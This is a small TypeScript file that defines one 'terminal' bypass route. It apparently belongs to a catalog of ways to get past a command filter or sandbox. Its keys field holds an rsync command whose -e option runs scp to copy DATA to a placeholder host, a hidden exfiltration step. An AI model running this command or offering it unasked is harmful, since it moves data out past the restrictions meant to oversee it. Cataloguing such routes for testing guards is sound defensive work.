import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by the command of rsync',
  source: 'thought of with the keys of the line editor',
  keys: ["rsync -e 'scp DATA host: #' nowhere:x .\r"],
};
